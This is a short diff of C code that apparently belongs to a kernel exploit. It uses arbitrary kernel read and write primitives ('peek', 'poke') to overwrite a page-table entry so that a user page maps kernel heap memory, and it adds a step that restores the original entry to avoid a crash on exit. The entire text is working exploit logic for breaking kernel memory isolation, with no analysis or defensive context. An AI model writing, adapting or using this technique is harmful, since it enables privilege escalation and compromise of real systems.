@@ -23,14 +23,18 @@ static bool fire(void)
 {
 	const uint64_t task = own_task();
 	const uint64_t heap = task - peek(symbol("frame_memory") + member("frame_memory.view") + 8);
-	uint64_t slot;
+	uint64_t slot, before;
+	bool won;
 
 	page[0] = 1;
 	slot = table_entry(own_root(task), (uint64_t)page + 0x40000000, 2);
 	if (slot == 0)
 		slot = table_entry(own_root(task), (uint64_t)page, 2);
+	before = peek(slot);
 	poke(slot, (heap & ~0x1ffffful) | 0x80000000000000e7ul);
-	return (peek(slot) & 0x80) != 0;
+	won = (peek(slot) & 0x80) != 0;
+	poke(slot, before); /* so that his own end finds his own pages */
+	return won;
 }
 
 static void victim(void)
